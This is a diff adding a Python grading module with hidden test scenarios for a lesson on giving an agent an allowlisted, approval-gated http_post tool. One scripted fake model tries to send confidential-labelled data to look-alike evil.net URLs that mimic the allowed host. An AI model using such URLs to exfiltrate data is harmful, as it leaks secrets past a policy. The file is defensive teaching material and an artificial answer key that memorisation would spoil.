@@ -1,0 +1,194 @@
+"""The capstone of lesson 6 (end of notebook 05): the learner wires a tool of their own, with a policy,
+into their harness, and it is judged on scenarios the notebook does not show.
+
+The tool is ``http_post(url, body)``; the policy: send only to a host in ``ALLOWED_HOSTS``, and only
+after a yes (``http_post`` is high-impact, so the learner's ``run_agent`` asks before it runs). The
+learner writes ``my_agent(client, user_input, send, approve=None)``, which returns their ``run_agent``
+generator with ``get_time`` and their ``http_post`` wired in; ``send(url, body)`` is the network (a
+spy here). The scenarios below are the hidden tests: a model that posts as asked, one whose post
+nobody approves, one that tries look-alike addresses (the URL cousin of ``project-secrets``), and
+one that posts the same thing again and again.
+"""
+
+from __future__ import annotations
+
+from datetime import datetime
+from typing import Any
+from urllib.parse import urlsplit
+
+from ..emulator import call, emulated_client, last_results, reply, say
+from ..grading.spies import Recorder
+from .checking import Miss, Piece, Point
+from .lesson6 import run_agent
+from .protocol import drive
+from .scenes import definitions, runaway_guard
+
+__all__ = ["ALLOWED_HOSTS", "HTTP_POST", "MY_AGENT", "my_agent"]
+
+ALLOWED_HOSTS = {"hooks.example.com"}  # ポリシー: 送ってよい宛先
+GET_TIME, HTTP_POST = definitions(
+    get_time=("現在時刻を ISO 8601 の文字列で返す", {}),
+    http_post=("許可された宛先の URL に、本文を POST する", {"url": {"type": "string"}, "body": {"type": "string"}}),
+)
+
+
+def get_time():
+    return datetime.now().astimezone().isoformat(timespec="seconds")
+
+
+def my_agent(client, user_input, send, approve=None):
+    """自分の http_post を配線した run_agent: 許可した宛先にだけ、承認を得てから送る"""
+
+    def http_post(url, body):
+        host = urlsplit(url).hostname  # 文字列の前方一致ではなく、URL を部品に分けたホスト名で比べる
+        if host not in ALLOWED_HOSTS:
+            raise PermissionError(f"{host} への送信は、ポリシーで許可されていません")
+        send(url, body)
+        return "送信しました"
+
+    impls = {"get_time": get_time, "http_post": http_post}
+    return run_agent(client, user_input, [GET_TIME, HTTP_POST], impls, approve)  # http_post は弁4が尋ねる
+
+
+# --- the hidden scenarios ------------------------------------------------------------------------
+
+DAILY = ("https://hooks.example.com/daily", "日報: 問い合わせ 42 件、未解決 3 件")
+LOOKALIKES = (
+    "https://hooks.example.com.evil.net/daily",
+    "https://hooks.example.com@evil.net/daily",
+    "https://evil.net/hooks.example.com/daily",
+    "https://evil.net/daily?to=hooks.example.com",
+)
+
+
+def _done(request: dict) -> int:
+    return sum(1 for m in request["messages"] if m["role"] == "assistant")
+
+
+def _posts_daily(request: dict) -> Any:
+    url, body = DAILY
+    steps = [call("get_time"), reply("日報を送ります。", call("http_post", url=url, body=body)), say("送りました。")]
+    return steps[min(_done(request), 2)]
+
+
+def _tries_lookalikes(request: dict) -> Any:
+    done = _done(request)
+    if done < len(LOOKALIKES):
+        return call("http_post", url=LOOKALIKES[done], body="社外秘の集計")
+    return say("どの宛先にも送れませんでした。")
+
+
+def _posts_again(request: dict) -> Any:
+    url, body = DAILY
+    return say("あきらめます。") if len(last_results(request)) > 3 else call("http_post", url=url, body=body)
+
+
+class Trial:
+    """One scenario run of ``my_agent``: the spies' log, what was sent, the results the model got."""
+
+    def __init__(self, fn, script, decide: Any = None) -> None:
+        self.rec, self.sent, self.emulator = Recorder(), [], runaway_guard(script, 16)
+        approve = self.rec.approver(decide) if decide is not None else None
+        self.miss: Miss | None = None
+        try:
+            gen = fn(emulated_client(self.emulator), "日報を送って", self._send, approve)
+        except TypeError as exc:
+            self.miss = Miss("lesson.capstone.signature", {"error": str(exc)[:80]})
+            return
+        if not hasattr(gen, "__next__"):
+            self.miss = Miss("lesson.capstone.not_generator", {"got": type(gen).__name__})
+            return
+        drive(gen)
+
+    def _send(self, url: str, body: str) -> None:
+        self.sent.append((url, body))
+        self.rec.tool("send", None)(url=url, body=body)  # in the same log as the questions
+
+    def asked_first(self) -> bool:
+        """The person was asked about http_post before anything was sent."""
+        kinds = [(e.kind, e.name) for e in self.rec.events]
+        asked = kinds.index(("approve", "http_post")) if ("approve", "http_post") in kinds else None
+        return asked is not None and asked < kinds.index(("impl", "send"))
+
+    def results(self) -> list[dict]:
+        """Every tool_result the model received, as dicts."""
+        last = self.emulator.requests[-1]["messages"] if self.emulator.requests else []
+        return [
+            b
+            for m in last
+            if m["role"] == "user" and isinstance(m["content"], list)
+            for b in m["content"]
+            if isinstance(b, dict) and b.get("type") == "tool_result"
+        ]
+
+    def defined(self) -> set[str]:
+        tools = self.emulator.requests[0].get("tools", []) if self.emulator.requests else []
+        return {d.get("name") for d in tools}
+
+
+def _sends_when_allowed(fn) -> Miss | None:
+    trial = Trial(fn, _posts_daily, lambda name, given: True)
+    if trial.miss:
+        return trial.miss
+    if "http_post" not in trial.defined():
+        return Miss("lesson.capstone.not_defined")
+    if trial.sent != [DAILY]:
+        results = " ".join(str(r.get("content")) for r in trial.results() if r.get("is_error"))
+        if trial.sent:
+            return Miss("lesson.capstone.sent_wrong", {"sent": repr(trial.sent)[:80]})
+        return Miss("lesson.capstone.not_sent", {"result": results[:80] or "—"})
+    if not trial.asked_first():
+        return Miss("lesson.capstone.not_asked")
+    return None
+
+
+def _never_without_a_yes(fn) -> Miss | None:
+    for decide, key in (
+        (None, "lesson.capstone.sent_without_approver"),
+        (lambda n, g: False, "lesson.capstone.sent_denied"),
+    ):
+        trial = Trial(fn, _posts_daily, decide)
+        if trial.miss:
+            return trial.miss
+        if trial.sent:
+            return Miss(key)
+        if not any(r.get("is_error") for r in trial.results()):
+            return Miss("lesson.capstone.denied_not_error")
+    return None
+
+
+def _policy_holds(fn) -> Miss | None:
+    trial = Trial(fn, _tries_lookalikes, lambda name, given: True)
+    if trial.miss:
+        return trial.miss
+    if trial.sent:
+        return Miss("lesson.capstone.lookalike_sent", {"url": trial.sent[0][0]})
+    errors = [r for r in trial.results() if r.get("is_error")]
+    if len(errors) < len(LOOKALIKES):
+        return Miss("lesson.capstone.refusal_not_error")
+    return None
+
+
+def _repeats_stop(fn) -> Miss | None:
+    trial = Trial(fn, _posts_again, lambda name, given: True)
+    if trial.miss:
+        return trial.miss
+    if len(trial.sent) > 1:
+        return Miss("lesson.capstone.sent_again", {"count": len(trial.sent)})
+    if not trial.sent:
+        return Miss("lesson.capstone.not_sent", {"result": "—"})
+    return None
+
+
+MY_AGENT = Piece(
+    "my_agent",
+    6,
+    (
+        Point("lesson.capstone.p1", _sends_when_allowed),
+        Point("lesson.capstone.p2", _never_without_a_yes),
+        Point("lesson.capstone.p3", _policy_holds),
+        Point("lesson.capstone.p4", _repeats_stop),
+    ),
+    my_agent,
+    hint="lesson.hint.my_agent",
+)
